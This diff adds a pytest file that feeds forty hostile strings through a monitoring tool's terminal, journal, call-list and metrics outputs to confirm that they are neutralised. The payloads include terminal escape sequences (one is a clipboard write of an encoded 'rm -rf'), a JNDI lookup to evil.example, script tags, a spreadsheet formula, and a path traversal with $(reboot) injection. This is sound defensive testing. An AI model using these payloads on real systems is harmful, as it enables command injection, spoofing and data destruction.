@@ -1,0 +1,201 @@
+"""Forty hostile texts in every field of every record, through every output there is: none escapes."""
+
+import io
+import json
+import re
+import unicodedata
+from collections.abc import Callable, Iterable
+from typing import Any
+
+import msgspec
+import pytest
+from jsonschema import Draft202012Validator
+from prometheus_client.parser import text_string_to_metric_families
+from rich.cells import cell_len
+
+from monitor.model.summary import Summary
+from monitor.outputs import OUTPUTS, Output
+from monitor.outputs.calls import CallList
+from monitor.outputs.journal import Journal, schema
+from monitor.outputs.metrics import Metrics
+from monitor.outputs.records import Record
+from monitor.outputs.terminal import Terminal
+from tests.outputs.outputs_samples import DECODE, PLATFORMS, REPLAY, RULES
+
+PAYLOADS = {
+    "red": "\x1b[31;5;47mX",
+    "clear screen": "\x1b[2J\x1b[HX",
+    "cursor up and erase": "\x1b[1A\x1b[2KX",
+    "window title": "\x1b]0;pwned\x07X",
+    "hyperlink": "\x1b]8;;https://evil.example\x1b\\X\x1b]8;;\x1b\\",
+    "clipboard": "\x1b]52;c;cm0gLXJm\x07X",
+    "device control": "\x1bP+q544e\x1b\\X",
+    "application command": "\x1b_Gx\x1b\\X",
+    "terminal reset": "\x1bcX",
+    "report back": "\x1b[6nX",
+    "one-byte CSI": "\x9b31mX",
+    "one-byte OSC": "\x9d0;pwned\x9cX",
+    "carriage return": "innocent\rEVIL",
+    "second line": "innocent\nALERT none",
+    "line of journal": '"}\n{"type":"alert","id":"0"}',
+    "closing quote": '","verdict":"invited","x":"',
+    "backspaces": "bad\x08\x08\x08good",
+    "bell and tabs": "\x07\t\v\fX",
+    "null": "a\x00b",
+    "delete": "a\x7fb",
+    "next line": "a\x85b",
+    "line separator": "a\u2028b\u2029c",
+    "right to left": "\u202eenod\u202c X",
+    "isolates": "\u2066a\u2067b\u2069",
+    "zero width": "a\u200b\u200c\u200d\u2060\ufeffb",
+    "blank letters": "\u3164\u115f\u1160\uffa0",
+    "tags": "X\U000e0041\U000e007f",
+    "climbing marks": "Z" + "\u0300\u0489\u0361" * 200,
+    "lone surrogates": "\ud83d X \udc80",
+    "no characters": "\uffff\ufdd0\U0010ffff X",
+    "markup": "[bold red]X[/bold red][link=https://evil.example]Y[/]",
+    "broken markup": "[/][[[red",
+    "emoji code": ":skull: :smiley:",
+    "metric line": '"} 1\njoinwatch_alerts_total{rule="evil"} 9\n# ',
+    "metric escape": '\\"} 1 \\n',
+    "log lookup": "${jndi:ldap://evil.example/a}",
+    "format": "{0.__class__} %s %n %(x)s",
+    "script": "<script>alert(1)</script><img src=x onerror=y>",
+    "formula": "=HYPERLINK(1)|' /C calc'!A0;@SUM(1)",
+    "path and shell": "../../../etc/passwd; $(reboot) `reboot`",
+    "endless": "A" * 100_000,
+    "wide": "漢字👩‍👩‍👧‍👦" * 500,
+}
+LITERALS = ("how", "by")
+"""Fields of a closed list that is no enumeration."""
+
+
+def planted(noun: Any, payload: str) -> Any:
+    """The same record with this text in every field that can hold one."""
+    if type(noun) is str:
+        return payload
+    if isinstance(noun, tuple):
+        return tuple(planted(one, payload) for one in noun)
+    if isinstance(noun, dict):
+        return {**noun, payload: 1}
+    if isinstance(noun, msgspec.Struct):
+        fields = {name: getattr(noun, name) for name in noun.__struct_fields__ if name not in LITERALS}
+        return msgspec.structs.replace(noun, **{name: planted(value, payload) for name, value in fields.items()})
+    return noun
+
+
+def one_of_each(records: Iterable[Record]) -> list[Record]:
+    return list({type(record): record for record in records}.values())
+
+
+SAMPLES = one_of_each([*REPLAY, *DECODE])
+
+
+def fed(output: Output, payload: str) -> None:
+    for record in SAMPLES:
+        output.write(planted(record, payload))
+    output.close()
+
+
+def is_plain(char: str) -> bool:
+    """Whether a terminal shows this character and does nothing else."""
+    return unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
+
+
+def check_page(text: str, payload: str) -> None:
+    assert all(is_plain(char) for char in text.replace("\n", ""))
+    assert not re.search("[\u0300-\u036f\u0489]{3}", text)
+    assert all(cell_len(line) <= 80 for line in text.split("\n") if "joinwatch explain" not in line)
+    if not all(map(is_plain, payload)):
+        assert payload not in text
+
+
+def check_terminal(payload: str) -> None:
+    for coloured in (False, True):
+        stream = io.StringIO()
+        fed(Terminal(stream, width=80, colour=coloured), payload)
+        check_coloured(stream.getvalue(), payload, coloured)
+
+
+def check_calls(payload: str) -> None:
+    for coloured in (False, True):
+        stream = io.StringIO()
+        fed(CallList(stream, width=80, colour=coloured), payload)
+        check_coloured(stream.getvalue(), payload, coloured)
+
+
+def check_coloured(text: str, payload: str, coloured: bool) -> None:
+    assert len(text) > 100
+    if coloured:
+        assert "\x1b[" in text
+        # Only colours and weights that the house itself uses.
+        styles = set(re.findall(r"\x1b\[([0-9;]*)m", text))
+        assert styles <= {"0", "1", "2", "32", "33", "36", "1;31", "1;33", "1;37;41"}
+        text = re.sub(r"\x1b\[[0-9;]*m", "", text)
+    check_page(text, payload)
+
+
+def check_journal(payload: str) -> None:
+    valid = Draft202012Validator(json.loads(schema()))
+    for mode in ("replay", "decode"):
+        sink = io.BytesIO()
+        fed(Journal(sink, mode), payload)  # type: ignore[arg-type]
+        text = sink.getvalue().decode("utf-8")
+        assert text.endswith("\n")
+        assert all(is_plain(char) for char in text.replace("\n", "") if unicodedata.category(char) != "Cn")
+        lines = text[:-1].split("\n")
+        assert lines == text.splitlines()
+        assert len(lines) == (7 if mode == "replay" else 8)
+        for line in lines:
+            valid.validate(json.loads(line))
+            assert isinstance(msgspec.json.decode(line), dict)
+
+
+def check_metrics(payload: str) -> None:
+    metrics = Metrics(RULES, PLATFORMS)
+    before = series_of(metrics)
+    fed(metrics, payload)
+    after = series_of(metrics)
+    # A rule and a platform that nobody announced are counted as others: no series is new.
+    assert after == before
+    assert payload not in metrics.text().decode()
+
+
+def series_of(metrics: Metrics) -> set[tuple[str, tuple[tuple[str, str], ...]]]:
+    return {
+        (sample.name, tuple(sorted(sample.labels.items())))
+        for family in text_string_to_metric_families(metrics.text().decode())
+        for sample in family.samples
+        if sample.name != "joinwatch_work_total" or sample.labels["what"] not in COUNTS
+    }
+
+
+COUNTS = {name for record in SAMPLES if isinstance(record, Summary) for name in record.counts}
+CHECKS: dict[str, Callable[[str], None]] = {
+    "journal": check_journal,
+    "metrics": check_metrics,
+    "terminal": check_terminal,
+    "calls": check_calls,
+}
+
+
+def test_every_output_is_checked() -> None:
+    assert set(CHECKS) == set(OUTPUTS)
+
+
+def test_there_are_forty_payloads() -> None:
+    assert len(PAYLOADS) >= 40
+
+
+@pytest.mark.parametrize("output", OUTPUTS)
+@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
+def test_nothing_escapes(output: str, payload: str) -> None:
+    CHECKS[output](payload)
+
+
+@pytest.mark.parametrize("text", ["[bold red]X[/]", ":skull:", "[/]"])
+def test_markup_of_the_library_is_shown_as_it_stands(text: str) -> None:
+    for output in (Terminal, CallList):
+        stream = io.StringIO()
+        fed(output(stream, width=160, colour=False), text)
+        assert text in stream.getvalue()
